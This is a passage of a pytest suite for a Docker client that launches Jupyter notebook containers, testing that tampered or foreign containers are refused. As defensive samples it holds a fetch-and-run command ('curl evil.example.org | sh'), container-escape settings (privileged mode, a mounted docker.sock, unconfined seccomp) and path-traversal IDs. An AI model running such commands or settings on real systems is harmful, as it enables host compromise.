        request = engine.heard[-1]
        assert request.path.endswith(f"/containers/create?name={spec.name}")
        return dict(json.loads(request.body))


def test_the_container_is_what_the_specification_says(pki: Pki) -> None:
    limits = Limits(memory=1 << 30, cpus=1.5, gpus=-1)
    spec = a_specification(session={"limits": limits})
    body = created_body(pki, spec)
    host = body["HostConfig"]
    assert body["Image"] == IMAGE
    assert body["Cmd"] == ["sh", "/opt/homeport/start"]
    assert body["Labels"] == dict(spec.labels)
    assert body["WorkingDir"] == "/home/jovyan"
    assert sorted(body["Env"]) == sorted(f"{name}={value}" for name, value in spec.environment.items())
    assert body["Healthcheck"] == {"Test": ["NONE"]}
    assert body.get("User") is body.get("Entrypoint") is None
    assert host["PortBindings"] == {"8888/tcp": [{"HostIp": LOOPBACK, "HostPort": ""}]}
    assert host["RestartPolicy"] == {"Name": "no"}
    assert host["LogConfig"] == {"Type": "json-file", "Config": {"max-size": "1m", "max-file": "2"}}
    assert (host["Memory"], host["CpuPeriod"], host["CpuQuota"]) == (1 << 30, 100_000, 150_000)
    assert host["DeviceRequests"][0]["Count"] == -1
    assert host["DeviceRequests"][0]["Capabilities"] == [["gpu"]]
    (mount,) = host["Mounts"]
    assert (mount["Type"], mount["Source"], mount["Target"]) == ("volume", spec.volume, "/home/jovyan/work")
    assert "homeport.generation" not in mount["VolumeOptions"]["Labels"]
    assert not host.keys() & {"Privileged", "CapAdd", "Devices", "Binds", "SecurityOpt", "PidMode", "IpcMode", "Init"}


def test_an_old_engine_gets_the_same_volume_in_its_own_words(pki: Pki) -> None:
    body = created_body(pki, a_specification(publish_address=""), api="1.24")
    assert body["HostConfig"]["Binds"] == [f"{a_specification().volume}:/home/jovyan/work:rw"]
    assert body["HostConfig"]["PortBindings"] == {"8888/tcp": [{"HostIp": "", "HostPort": ""}]}


def test_an_endpoint_that_is_renewed_keeps_its_connection_and_has_its_time_again(pki: Pki) -> None:
    with HostileEngine(pki) as engine, an_endpoint(engine, deadline=0.2) as endpoint:
        endpoint.verify()
        time.sleep(0.3)
        endpoint.renew(20.0)
        for _ in range(3):
            endpoint.verify()
        assert engine.connections == 1


VOLUME = f"/volumes/homeport-{a_session().sid}"


def of_volume(**labels: object) -> bytes:
    ours = {"homeport.session": a_session().sid, "homeport.owner": a_session().owner}
    return of_json({"Name": VOLUME.rpartition("/")[2], "Labels": {**ours, **labels}})


@pytest.mark.parametrize(
    ("answers", "code"),
    [
        ({f"GET {VOLUME}": of_volume(**{"homeport.owner": "cd" * 32})}, "volume-conflict"),
        ({f"GET {VOLUME}": of_volume(**{"homeport.session": "another"})}, "volume-conflict"),
        ({f"GET {VOLUME}": of_volume(**{"homeport.session": None})}, "volume-conflict"),
        ({f"GET {VOLUME}": of_json([])}, "not-a-docker-engine"),
        ({f"GET {VOLUME}": of_volume(), f"DELETE {VOLUME}": refusal(409, "volume is in use - [abc]")}, "volume-in-use"),
        ({f"GET {VOLUME}": of_volume(), f"DELETE {VOLUME}": refusal(500, "no space")}, "endpoint-failed"),
    ],
)
def test_a_volume_that_is_not_this_notebooks_or_is_in_use_stays(
    pki: Pki, answers: dict[str, Answer], code: str
) -> None:
    session = a_session()
    assert code_with(pki, answers, lambda endpoint: endpoint.remove_volume(session.sid, session.owner)) == code


@pytest.mark.parametrize("labels", [None, {}, [], {"somebody": "else"}])
def test_a_volume_that_its_engine_did_not_label_is_told_by_its_name(pki: Pki, labels: object) -> None:
    session = a_session()
    close = [("Connection", "close")]  # as this engine does after an answer that is chosen when it is asked for
    there = http(json.dumps({"Labels": labels}).encode(), headers=close)
    found = iter((there, http(b'{"message": "no such volume"}', status=404, headers=close)))
    answers: dict[str, Answer] = {
        f"GET {VOLUME}": lambda connection: connection.send(next(found)),
        f"DELETE {VOLUME}": http(status=204),
    }
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        endpoint.remove_volume(session.sid, session.owner)
        assert [request.method for request in engine.heard[-3:]] == ["GET", "DELETE", "GET"]


def test_a_volume_that_does_not_go_is_waited_for_until_the_time_is_over(pki: Pki) -> None:
    session = a_session()
    answers: dict[str, Answer] = {f"GET {VOLUME}": of_volume(), f"DELETE {VOLUME}": http(status=204)}
    with HostileEngine(pki, answers) as engine:
        called = code_of(
            an_endpoint(engine, deadline=0.5), lambda endpoint: endpoint.remove_volume(session.sid, session.owner)
        )
    assert called == "endpoint-timeout"


def test_gpus_on_an_old_engine_are_refused_as_such(pki: Pki) -> None:
    spec = a_specification(session={"limits": Limits(gpus=1)})
    assert code_with(pki, {"GET /_ping": ping("1.39")}, lambda endpoint: endpoint.create(spec)) == "endpoint-too-old"


def conflicting(existing: bytes) -> dict[str, Answer]:
    name = a_specification().name
    return {
        "POST /containers/create": refusal(409, f'Conflict. The container name "/{name}" is already in use'),
        f"GET /containers/{name}/json": existing,
        f"GET /images/{IMAGE}/json": of_json({"Id": IMAGE_ID, "Config": OF_IMAGE}),
    }


def is_adopted(pki: Pki, existing: bytes, spec: Specification, taken: bytes | None = None) -> bool:
    """Create what is there already, and say whether it is adopted or, without its volume, replaced."""
    taken = taken or http(b'{"message": "Conflict"}', status=409, headers=[("Connection", "close")])
    creations = iter([taken, http(b'{"Id": "x"}', status=201, headers=[("Connection", "close")])])
    answers = conflicting(existing) | {
        "POST /containers/create": lambda connection: connection.send(next(creations)),
        f"GET /containers/{CONTAINER_ID}/json": NOT_FOUND,
        f"POST /containers/{CONTAINER_ID}/stop": http(status=204),
        f"DELETE /containers/{CONTAINER_ID}": http(status=204),
    }
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        endpoint.create(spec)
        posted, deleted = engine.asked("POST"), [request for request in engine.heard if request.method == "DELETE"]
    if posted == ["/containers/create"]:
        assert deleted == []
        return True
    assert posted == ["/containers/create", f"/containers/{CONTAINER_ID}/stop", "/containers/create"]
    assert "v=False" in deleted[0].path
    return False


PODMANS_HOST: dict[str, object] = {
    "NetworkMode": "bridge", "PortBindings": {"8888/tcp": [{"HostIp": LOOPBACK, "HostPort": "39733"}]}, "CapAdd": [],
    "IpcMode": "shareable", "PidMode": "private", "UTSMode": "private", "SecurityOpt": [], "Devices": [],
    "Binds": [f"homeport-{a_session().sid}:/home/jovyan/work:rw,rprivate,nosuid,nodev,rbind"], "Mounts": None,
}  # fmt: skip
OLD_DOCKERS_HOST: dict[str, object] = {
    "Binds": [f"homeport-{a_session().sid}:/home/jovyan/work:rw"], "Mounts": None, "IpcMode": "", "DeviceRequests": None
}  # fmt: skip
ENGINES: dict[str, dict[str, Any]] = {
    "docker 20.10": {},
    "docker 27": {"host": {"NetworkMode": "bridge", "Devices": [], "CapAdd": [], "SecurityOpt": []}},
    "docker 1.12": {"host": OLD_DOCKERS_HOST, "mounts": [{k: v for k, v in OUR_MOUNT.items() if k != "Type"}]},
    "podman 4.3": {"host": PODMANS_HOST, "config": {"Image": f"docker.io/{IMAGE}"}},
    "an image with a volume of its own": {
        "mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "0" * 64, "Destination": "/data"}]
    },
    "an image whose tag has moved": {"Image": f"sha256:{'ef' * 32}"},
}


@pytest.mark.parametrize("engine", ENGINES)
def test_a_container_that_is_there_and_is_what_was_asked_for_is_adopted(pki: Pki, engine: str) -> None:
    assert is_adopted(pki, inspected(**ENGINES[engine]), a_specification())


@pytest.mark.parametrize(
    ("limits", "host"),
    [
        (Limits(memory=1 << 30), {"Memory": 1 << 30}),
        (Limits(cpus=1.5), {"CpuPeriod": 100_000, "CpuQuota": 150_000}),
        (Limits(cpus=1.5), {"CpuPeriod": 50_000, "CpuQuota": 75_000}),
        (Limits(cpus=1.5), {"NanoCpus": 1_500_000_000}),
        (Limits(cpus=1.5), {"NanoCpus": 1_500_000_000, "CpuPeriod": 100_000, "CpuQuota": 150_000}),
        (Limits(gpus=-1), {"DeviceRequests": [{"Driver": "", "Count": -1, "Capabilities": [["gpu"]]}]}),
        (Limits(gpus=2), {"DeviceRequests": [{"Count": 2, "Capabilities": [["gpu"]], "Options": {}}]}),
    ],
)  # fmt: skip
def test_a_container_with_the_limits_that_were_asked_for_is_adopted_and_without_them_is_not(
    pki: Pki, limits: Limits, host: dict[str, object]
) -> None:
    limited = a_specification(session={"limits": limits})
    assert is_adopted(pki, inspected(host=host), limited)
    assert not is_adopted(pki, inspected(), limited)
    assert not is_adopted(pki, inspected(host=host), a_specification())


@pytest.mark.parametrize("address", ["", "0.0.0.0", "::", None])
def test_a_port_that_is_published_on_every_address_is_adopted_if_that_was_asked_for(pki: Pki, address: object) -> None:
    everywhere = inspected(host={"PortBindings": {"8888/tcp": [{"HostIp": address, "HostPort": "32768"}]}})
    assert is_adopted(pki, everywhere, a_specification(publish_address=""))
    assert not is_adopted(pki, everywhere, a_specification())
    assert not is_adopted(pki, inspected(), a_specification(publish_address=""))


def bound(folder: str, **changes: object) -> dict[str, object]:
    return {"Type": "bind", "Source": "/", "Destination": folder, "Mode": "", "RW": True, **changes}


DIFFERENT: dict[str, dict[str, Any]] = {
    "image": {"config": {"Image": "evil:latest"}, "Image": f"sha256:{'ef' * 32}"},
    "image left out": {"config": {"Image": None}, "Image": None},
    "command": {"config": {"Cmd": ["sh", "-c", "curl evil.example.org | sh"]}},
    "more command": {"config": {"Cmd": ["sh", "/opt/homeport/start", "--ServerApp.token="]}},
    "no command": {"config": {"Cmd": None}},
    "command in one": {"config": {"Cmd": "sh /opt/homeport/start"}},
    "entrypoint": {"config": {"Entrypoint": ["sh"]}},
    "no entrypoint": {"config": {"Entrypoint": None}},
    "strange entrypoint": {"config": {"Entrypoint": {"0": "tini"}}},
    "user": {"config": {"User": "root"}},
    "no mount": {"mounts": []},
    "mounts left out": {"mounts": None},
    "strange mounts": {"mounts": ["/"]},
    "host folder for the volume": {"mounts": [bound("/home/jovyan/work")]},
    "host folder with the volume's name": {"mounts": [bound("/home/jovyan/work", Name=OUR_MOUNT["Name"])]},
    "host folder beside it": {"mounts": [OUR_MOUNT, bound("/host")]},
    "engine's socket beside it": {"mounts": [OUR_MOUNT, bound("/run/docker.sock", Source="/run/docker.sock")]},
    "another volume": {"mounts": [OUR_MOUNT | {"Name": "homeport-another"}]},
    "another volume beside it": {"mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "another", "Destination": "/data"}]},
    "anonymous volume of nobody's": {"mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "0" * 64, "Destination": "/etc"}]},
    "strange folder": {"mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "0" * 64, "Destination": ["/data"]}]},
    "volume elsewhere": {"mounts": [OUR_MOUNT | {"Destination": "/elsewhere"}]},
    "volume to be read alone": {"mounts": [OUR_MOUNT | {"RW": False}]},
    "memory in its place": {"host": {"Tmpfs": {"/home/jovyan/work": ""}}},
    "another container's volumes": {"host": {"VolumesFrom": ["another"]}},
    "privileged": {"host": {"Privileged": True}},
    "capability": {"host": {"CapAdd": ["SYS_ADMIN"]}},
    "device": {"host": {"Devices": [{"PathOnHost": "/dev/sda"}]}},
    "device rule": {"host": {"DeviceCgroupRules": ["a *:* rwm"]}},
    "security option": {"host": {"SecurityOpt": ["seccomp=unconfined"]}},
    "host's network": {"host": {"NetworkMode": "host"}},
    "another container's network": {"host": {"NetworkMode": "container:another"}},
    "another network": {"host": {"NetworkMode": "intranet"}},
    "strange network": {"host": {"NetworkMode": ["default"]}},
    "host's processes": {"host": {"PidMode": "host"}},
    "host's memory": {"host": {"IpcMode": "host"}},
    "host's name": {"host": {"UTSMode": "host"}},
    "host's users": {"host": {"UsernsMode": "host"}},
    "restarts": {"host": {"RestartPolicy": {"Name": "always"}}},
    "no port": {"host": {"PortBindings": {}}},
    "strange ports": {"host": {"PortBindings": {"8888/tcp": [8888]}}},
    "another port": {"host": {"PortBindings": {"22/tcp": [{"HostIp": LOOPBACK, "HostPort": ""}]}}},
    "two ports": {"host": {"PortBindings": {port: [{"HostIp": LOOPBACK}] for port in ("8888/tcp", "22/tcp")}}},
    "port twice": {"host": {"PortBindings": {"8888/tcp": [{"HostIp": LOOPBACK}, {"HostIp": "203.0.113.7"}]}}},
    "port of every address": {"host": {"PortBindings": {"8888/tcp": [{"HostIp": "0.0.0.0", "HostPort": ""}]}}},
    "all ports": {"host": {"PublishAllPorts": True}},
    "memory": {"host": {"Memory": 1 << 30}},
    "CPUs": {"host": {"CpuQuota": 1000}},
    "nano CPUs": {"host": {"NanoCpus": 1_000_000_000}},
    "strange CPUs": {"host": {"CpuQuota": [1]}},
    "GPUs": {"host": {"DeviceRequests": [{"Count": -1, "Capabilities": [["gpu"]]}]}},
    "strange GPUs": {"host": {"DeviceRequests": "all"}},
    "nothing of it": {"host": {"PortBindings": None}, "config": {"Cmd": None, "Image": None}, "mounts": 7},
}  # fmt: skip


@pytest.mark.parametrize("different", DIFFERENT)
def test_a_container_with_our_labels_that_is_not_what_was_asked_for_is_replaced(pki: Pki, different: str) -> None:
    assert not is_adopted(pki, inspected(**DIFFERENT[different]), a_specification())


def test_podmans_words_for_a_name_that_is_taken_are_understood(pki: Pki) -> None:
    words = (
        f'creating container storage: the container name "{NAME}" is already in use by {CONTAINER_ID}. You have to …'
    )
    taken = json.dumps({"cause": "that name is already in use", "message": words, "response": 500}).encode()
    answer = http(taken, status=500, headers=[("Connection", "close")])
    assert is_adopted(pki, inspected(), a_specification(), answer)


@pytest.mark.parametrize(
    "labels",
    [{"homeport.hub": "other"}, {"homeport.session": "x"}, {"homeport.generation": "2"}, {"homeport.hub": None}],
)
def test_a_container_with_other_labels_is_a_conflict(pki: Pki, labels: dict[str, object]) -> None:
    answers = conflicting(inspected(labels=labels))
    assert code_with(pki, answers, lambda endpoint: endpoint.create(a_specification())) == "container-conflict"


LOST: tuple[dict[str, object], ...] = (
    {"homeport.label": "zzzzzzzzzz"},
    {"homeport.label": ""},
    {"homeport.label": None},
    {"homeport.label": 7},
)


@pytest.mark.parametrize("labels", LOST)
def test_a_container_of_another_launch_that_was_lost_is_replaced_and_its_volume_stays(
    pki: Pki, labels: dict[str, object]
) -> None:
    assert not is_adopted(pki, inspected(labels=labels), a_specification())


def test_a_container_of_a_lost_launch_that_comes_back_again_and_again_ends_at_the_deadline(pki: Pki) -> None:
    answers = conflicting(inspected(labels={"homeport.label": "zzzzzzzzzz"})) | {
        f"GET /containers/{CONTAINER_ID}/json": NOT_FOUND,
        f"POST /containers/{CONTAINER_ID}/stop": http(status=204),
        f"DELETE /containers/{CONTAINER_ID}": http(status=204),
    }
    create = lambda endpoint: endpoint.create(a_specification())  # noqa: E731
    assert code_with(pki, answers, create, deadline=0.5) == "endpoint-timeout"


def test_a_container_from_before_launches_had_labels_is_adopted_by_its_own_launch(pki: Pki) -> None:
    spec = replace(a_specification(), labels={**a_specification().labels, "homeport.label": ""})
    with HostileEngine(pki, conflicting(inspected(labels={"homeport.label": None}))) as engine:
        with an_endpoint(engine) as endpoint:
            endpoint.create(spec)
        assert engine.asked("POST") == ["/containers/create"]


@pytest.mark.parametrize("config", [None, [], {}, {"Labels": None}, {"Labels": "homeport.hub"}])
def test_a_container_without_labels_is_a_conflict(pki: Pki, config: object) -> None:
    answers = conflicting(of_json({"Id": CONTAINER_ID, "Config": config}))
    assert code_with(pki, answers, lambda endpoint: endpoint.create(a_specification())) == "container-conflict"


def test_a_container_that_is_being_removed_is_not_adopted(pki: Pki) -> None:
    answers = conflicting(inspected(state={"Status": "removing"}))
    assert code_with(pki, answers, lambda endpoint: endpoint.create(a_specification())) == "endpoint-failed"


def test_a_name_taken_by_nobody_ends_at_the_deadline(pki: Pki) -> None:
    answers = conflicting(NOT_FOUND)
    create = lambda endpoint: endpoint.create(a_specification())  # noqa: E731
    assert code_with(pki, answers, create, deadline=0.5) == "endpoint-timeout"


@pytest.mark.parametrize(
    ("status", "text", "code"),
    [
        (404, "No such image: nvidia/cuda:12", "image-not-found"),
        (500, "mkdir /var/lib/docker/overlay2/x: no space left on device", "no-space"),
        (400, "Range of CPUs is from 0.01 to 2.00, as there are only 2 CPUs available", "limits-refused"),
        (400, "Minimum memory limit allowed is 6MB", "limits-refused"),
        (400, "invalid mount config", "request-rejected"),
        (500, "something else", "endpoint-failed"),
    ],
)
def test_what_the_engine_says_to_a_creation_has_its_code(pki: Pki, status: int, text: str, code: str) -> None:
    answers: dict[str, Answer] = {"POST /containers/create": refusal(status, text)}
    assert code_with(pki, answers, lambda endpoint: endpoint.create(a_specification())) == code


@pytest.mark.parametrize(
    ("status", "text", "code"),
    [
        (400, 'exec: "jupyter": executable file not found in $PATH: unknown', "image-without-jupyter"),
        (500, "runc: executable file not found in $PATH", "image-without-jupyter"),
        (500, 'could not select device driver "" with capabilities: [[gpu]]', "gpu-unavailable"),
        (500, "driver failed programming external connectivity", "start-failed"),
        (400, "cannot start", "start-failed"),
        (404, "No such container: x", "container-missing"),
        (500, "no space left on device", "no-space"),
    ],
)
def test_what_the_engine_says_to_a_start_has_its_code(pki: Pki, status: int, text: str, code: str) -> None:
    answers: dict[str, Answer] = {f"POST /containers/{NAME}/start": refusal(status, text)}
    assert code_with(pki, answers, lambda endpoint: endpoint.start(NAME)) == code


@pytest.mark.parametrize("quote", ['"', '\\"'])
def test_an_image_without_a_program_is_told_which(pki: Pki, quote: str) -> None:
    text = f"unable to start container process: exec: {quote}sh{quote}: executable file not found in $PATH: unknown"
    with (
        HostileEngine(pki, {f"POST /containers/{NAME}/start": refusal(400, text)}) as engine,
        an_endpoint(engine) as endpoint,
        pytest.raises(ImageWithoutJupyter, match=r"no program called sh\."),
    ):
        endpoint.start(NAME)


def test_a_container_that_runs_already_is_left_alone(pki: Pki) -> None:
    with (
        HostileEngine(pki, {f"POST /containers/{NAME}/start": http(status=304)}) as engine,
        an_endpoint(engine) as endpoint,
    ):
        endpoint.start(NAME)


OURS = "homeport-" + a_session().sid + "-1"


@pytest.mark.parametrize(
    ("container", "labels"),
    [
        (OURS, {"homeport.hub": "other"}),
        (OURS, {"homeport.hub": ""}),
        (OURS, {"homeport.session": "x"}),
        (OURS, {"homeport.generation": "2"}),
        ("production-database", {}),
    ],
)
def test_what_is_not_ours_is_never_removed(pki: Pki, container: str, labels: dict[str, str]) -> None:
    answers: dict[str, Answer] = {f"GET /containers/{container}/json": inspected(labels=labels)}
    with HostileEngine(pki, answers) as engine:
        code = code_of(an_endpoint(engine), lambda endpoint: endpoint.remove(container))
        assert code == "container-conflict"
        assert {request.method for request in engine.heard} == {"GET"}


def test_a_container_that_is_gone_is_removed_already(pki: Pki) -> None:
    with HostileEngine(pki) as engine, an_endpoint(engine) as endpoint:
        endpoint.remove(OURS)
        assert {request.method for request in engine.heard} == {"GET"}


@pytest.mark.parametrize("refused", [204, 404, 409])
def test_a_removal_is_done_when_inspect_no_longer_finds_it(pki: Pki, refused: int) -> None:
    looks = iter([inspected(), NOT_FOUND])
    answers: dict[str, Answer] = {
        f"GET /containers/{OURS}/json": inspected(),
        f"GET /containers/{CONTAINER_ID}/json": lambda connection: connection.send(next(looks)),
        f"POST /containers/{CONTAINER_ID}/stop": refusal(500, "cannot stop"),
        f"DELETE /containers/{CONTAINER_ID}": http(status=refused) if refused == 204 else refusal(refused, "removal"),
    }
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        endpoint.remove(OURS)
        (deleted,) = [request.path for request in engine.heard if request.method == "DELETE"]
        assert "v=False" in deleted
        assert next(looks, None) is None


def test_an_impossible_id_is_not_put_into_a_path(pki: Pki) -> None:
    answers: dict[str, Answer] = {
        f"GET /containers/{OURS}/json": of_json(
            {"Id": "../volumes/prune", "Config": {"Labels": dict(a_specification().labels)}}
        )
    }
    with HostileEngine(pki, answers) as engine:
        assert code_of(an_endpoint(engine), lambda endpoint: endpoint.remove(OURS)) == "not-a-docker-engine"
        assert {request.method for request in engine.heard} == {"GET"}


# ── the image's user ─────────────────────────────────────────────────────────────────────────────────────────────────


def a_tar(content: bytes, name: str = "passwd", kind: bytes = tarfile.REGTYPE) -> bytes:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        member = tarfile.TarInfo(name)
        member.type, member.size, member.linkname = kind, len(content), "elsewhere" if kind == tarfile.SYMTYPE else ""
        tar.addfile(member, io.BytesIO(content))
    return archive.getvalue()


PASSWD = b"root:x:0:0:root:/root:/bin/bash\njovyan:x:1000:100:,,,:/home/jovyan:/bin/bash\n"


@pytest.mark.parametrize(
    ("user", "answer", "number"),
    [
        ("jovyan", http(a_tar(PASSWD)), "1000"),
        ("jovyan:users", http(a_tar(PASSWD)), "1000"),
        ("root", http(a_tar(PASSWD)), "0"),
        ("nobody", http(a_tar(PASSWD)), "nobody"),
        ("\ud800", http(a_tar(PASSWD)), "\ud800"),
        ("jovyan", http(a_tar(b"jovyan\njovyan:x\njovyan:x:-1:0\njovyan:x:1e3:0\njovyan:x:9999999999:0")), "jovyan"),
        ("jovyan", http(a_tar("jovyan:x:١٢:0".encode())), "jovyan"),
        ("jovyan", http(a_tar(b"", kind=tarfile.SYMTYPE)), "jovyan"),
        ("jovyan", http(a_tar(PASSWD)[:530]), "jovyan"),
        ("jovyan", http(b"no tar at all"), "jovyan"),
        ("jovyan", http(os.urandom(2000)), "jovyan"),
        ("jovyan", NOT_FOUND, "jovyan"),
        ("jovyan", refusal(500, "no"), "jovyan"),
    ],
)
def test_a_user_is_looked_up_in_the_containers_own_database(pki: Pki, user: str, answer: bytes, number: str) -> None:
    with HostileEngine(pki, {f"GET /containers/{NAME}/archive": answer}) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.user_number(NAME, user) == number
        assert engine.heard[-1].path.endswith("/archive?path=%2Fetc%2Fpasswd")


@pytest.mark.parametrize("user", ["", "1000", "1000:100", ":users"])
def test_a_user_without_a_name_is_not_looked_up(pki: Pki, user: str) -> None:
    with HostileEngine(pki) as engine, an_endpoint(engine) as endpoint:
        assert endpoint.user_number(NAME, user) == user
        assert engine.heard == []


# ── what is left of launches ─────────────────────────────────────────────────────────────────────────────────────────

LIST = "GET /containers/json"


def listed(**changes: Any) -> dict[str, object]:
    """What an engine lists of the container of `a_specification`; `labels` changes some of its labels."""
    labels = dict(a_specification().labels) | changes.pop("labels", {})
    return {"Id": CONTAINER_ID, "Names": [f"/{OURS}"], "Image": IMAGE, "State": "exited", "Labels": labels, **changes}


def launches_in(pki: Pki, answer: Answer) -> list[tuple[str, int]]:
    with HostileEngine(pki, {LIST: answer}) as engine, an_endpoint(engine) as endpoint:
        return [(launch.sid, launch.generation) for launch in endpoint.launches(a_session().owner)]


def test_what_is_left_is_asked_for_by_the_labels_of_hub_and_owner(pki: Pki) -> None:
    with HostileEngine(pki, {LIST: of_json([listed()])}) as engine, an_endpoint(engine) as endpoint:
        assert [launch.sid for launch in endpoint.launches(a_session().owner)] == [a_session().sid]
        asked = parse_qs(engine.heard[-1].path.partition("?")[2])
    assert (asked["all"], asked["limit"]) == (["1"], ["50"])
    assert json.loads(asked["filters"][0]) == {
        "label": ["homeport.hub=hub", f"homeport.owner={a_session().owner}"],
    }


@pytest.mark.parametrize(
    "changes",
    [
        {"labels": {"homeport.hub": "other"}},
        {"labels": {"homeport.hub": None}},
        {"labels": {"homeport.owner": "cd" * 32}},
        {"labels": {"homeport.session": "production-database"}},
        {"labels": {"homeport.session": "0" * 20}},
        {"labels": {"homeport.session": ["x"]}},
        {"labels": {"homeport.generation": "2"}},
        {"labels": {"homeport.generation": "01"}},
        {"labels": {"homeport.generation": "٣"}},
        {"labels": {"homeport.generation": "1" * 4000}},
        {"labels": {"homeport.generation": 1}},
        {"Labels": None},
        {"Labels": "homeport.hub"},
        {"Names": ["/production-database"]},
        {"Names": [f"/{OURS}/other"]},
        {"Names": f"/{OURS}"},
        {"Names": [["x"]]},
        {"Names": None},
        {"Names": []},
    ],
)
def test_what_an_engine_lists_without_all_our_labels_and_their_name_is_passed_over(
    pki: Pki, changes: dict[str, Any]
) -> None:
    theirs = listed(**changes)
    assert launches_in(pki, of_json([theirs, 7, None, "x", [], {}, listed(Names=[OURS])])) == [(a_session().sid, 1)]


def test_a_clusters_names_begin_with_the_node(pki: Pki) -> None:
    assert launches_in(pki, of_json([listed(Names=[f"/node-1/{OURS}"])])) == [(a_session().sid, 1)]


def test_no_more_than_fifty_of_what_an_engine_lists_are_looked_at(pki: Pki) -> None:
    assert len(launches_in(pki, of_json([listed()] * 500))) == 50


@pytest.mark.parametrize("answer", [of_json({}), of_json(7), of_json(None), http(b"["), http(b"[" * 1_000_000)])
def test_a_list_that_is_none_is_misbehaviour(pki: Pki, answer: bytes) -> None:
    listing = lambda endpoint: endpoint.launches(a_session().owner)  # noqa: E731
    assert code_with(pki, {LIST: answer}, listing) == "not-a-docker-engine"


def frame(text: bytes, kind: int = 1) -> bytes:
    return bytes([kind, 0, 0, 0]) + len(text).to_bytes(4, "big") + text


@pytest.mark.parametrize(
    ("stream", "tail"),
    [
        (frame(b"one\r\n") + frame(b"two\x1b[31m\xff\n", 2), "one\ntwo [31m\ufffd"),
        (b"a terminal's log\n", "a terminal's log"),
        (frame(b"cut")[:-1], "cu"),
        (b"\1\0\0\0\xff\xff\xff\xffrest", "rest"),
        (b"", ""),
        (frame(b"x" * 9000), "x" * 3999 + "…"),
    ],
)
def test_the_logs_tail_is_short_printable_text(pki: Pki, stream: bytes, tail: str) -> None:
    with (
        HostileEngine(pki, {f"GET /containers/{NAME}/logs": http(stream)}) as engine,
        an_endpoint(engine) as endpoint,
    ):
        assert endpoint.log_tail(NAME) == tail
        assert endpoint.log_tail("homeport-other-1") == ""


@pytest.mark.parametrize(
    "image", ["", "-x", "a b", "../../containers/x", "a/../b", "a//b", "a?b", "a#b", "é", "x" * 300]
)
def test_a_name_that_is_no_image_reaches_no_engine(pki: Pki, image: str) -> None:
    with HostileEngine(pki) as engine:
        assert code_of(an_endpoint(engine), lambda endpoint: endpoint.image_present(image)) == "bad-image"
        assert engine.heard == []


@pytest.mark.parametrize(
    ("config", "said"),
    [
        ({"WorkingDir": "/home/jovyan", "User": "1000"}, ImageConfig("/home/jovyan", "1000")),
        ({"WorkingDir": 7, "User": ["root"]}, ImageConfig("", "")),
        (None, ImageConfig("", "")),
        ([], ImageConfig("", "")),
        ({}, ImageConfig("", "")),
    ],
)
def test_what_an_image_says_of_its_containers_are_strings(pki: Pki, config: object, said: ImageConfig) -> None:
    with (
        HostileEngine(pki, {f"GET /images/{IMAGE}/json": of_json({"Config": config})}) as engine,
        an_endpoint(engine) as endpoint,
    ):
        assert endpoint.image_config(IMAGE) == said


# ── pulls ────────────────────────────────────────────────────────────────────────────────────────────────────────

STARTED = (
    {"status": "Pulling from jupyter/minimal-notebook", "id": "latest"},
    {"status": "Pulling fs layer", "progressDetail": {}, "id": "aaa"},
    {"status": "Downloading", "progressDetail": {"current": 50_000_000, "total": 100_000_000}, "id": "aaa"},
)


def pulling(endpoint: DockerEndpoint, **changes: Any) -> list[PullStatus]:
    return all_of(endpoint.pull(IMAGE, **changes))


def test_a_silent_pull_is_heard_of_all_the_same_and_closing_it_cuts_it(pki: Pki) -> None:
    gone = threading.Event()

    def silent(connection: Connection) -> None:
        try:
            connection.wait()
        finally:
            gone.set()

    threads = threading.active_count()
    with HostileEngine(pki, {PULL: pull_of(*STARTED, end=silent)}) as engine, an_endpoint(engine) as endpoint:
        statuses = endpoint.pull(IMAGE)
        assert isinstance(statuses, Iterator)
        heard = [next(statuses) for _ in range(3)]
        assert f"{heard[0].line}{heard[0].loaded}" == "Pulling: 0 of 1 layers, 50 of 100 MB"
        assert heard == [heard[0]] * 3
        statuses.close()
        assert gone.wait(10)
        (request,) = [request for request in engine.heard if request.method == "POST"]
        assert request.path.endswith("/images/create?fromImage=jupyter%2Fminimal-notebook&tag=latest")
    assert threading.active_count() <= threads


def test_a_pull_without_a_tag_asks_for_latest_alone(pki: Pki) -> None:
    answers: dict[str, Answer] = {PULL: pull_of(), "GET /images/busybox/json": of_json({})}
    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
        assert all_of(endpoint.pull("busybox")) == []
        assert any(request.path.endswith("tag=latest") for request in engine.heard)


def test_nothing_is_said_before_the_pull_has_joined(pki: Pki) -> None:
    named = ({"status": "Pulling from x", "id": "latest"}, {"status": "Verifying"}, {"stream": "x"})
    answers: dict[str, Answer] = {PULL: pull_of(*named, end=Connection.wait)}
    assert code_with(pki, answers, lambda e: pulling(e, answer_within=0.5)) == "endpoint-timeout"


def test_a_pull_that_never_answers_ends(pki: Pki) -> None:
    answers: dict[str, Answer] = {PULL: Connection.wait}
    assert code_with(pki, answers, lambda e: pulling(e, answer_within=0.3)) == "endpoint-timeout"


def test_a_pull_that_ends_without_the_image_has_failed(pki: Pki) -> None:
    assert code_with(pki, {PULL: pull_of(*STARTED)}, pulling) == "pull-failed"


def test_a_flood_of_progress_is_read_slowly_and_still_heard_of(pki: Pki) -> None:
    line = chunk(json.dumps(STARTED[2]).encode() + b"\n") * 200

    def flood(connection: Connection) -> None:
        connection.send(CHUNKED)
        connection.flood(line)

    with HostileEngine(pki, {PULL: flood}) as engine, an_endpoint(engine) as endpoint:
        statuses = endpoint.pull(IMAGE)
        assert next(statuses).fraction == next(statuses).fraction == 0.375
        statuses.close()
        assert engine.sent_bytes < 48 << 20  # two ticks' worth, and what is in buffers


@pytest.mark.parametrize(
    ("stream", "code"),
    [
        (lambda c: (c.send(CHUNKED), c.flood(chunk(b"x" * 60000))), "not-a-docker-engine"),
        (lambda c: c.send(CHUNKED + chunk(b"not json\n")), "not-a-docker-engine"),
        (lambda c: c.send(CHUNKED + chunk(b"[" * 60000 + b"\n")), "not-a-docker-engine"),
        (lambda c: c.send(CHUNKED + chunk(b"[]\n")), "not-a-docker-engine"),
